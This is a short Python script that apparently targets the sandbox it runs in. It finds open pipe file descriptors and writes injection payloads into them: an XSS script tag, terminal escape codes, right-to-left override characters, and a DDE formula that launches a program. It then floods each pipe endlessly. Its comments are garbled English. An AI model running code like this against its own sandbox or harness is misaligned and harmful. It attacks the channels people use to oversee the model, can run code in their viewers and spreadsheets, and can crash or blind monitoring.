# tries: notes in the pipe of the sandbox's own that are markup, controls, and very many
# order: attack first
import os, stat
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, b"<script>alert(1)</script>\t\x00\x1b]0;x\x07\xed\xa0\x80\n\t\n\t\t\t\n" + b"\xe2\x80\xae" * 60 + b"\n=1+1\t=cmd|' /C calc'!A0\n" + b"\n" * 1000)
            while True:
                os.write(fd, b"x" * 4096)
    except OSError:
        pass
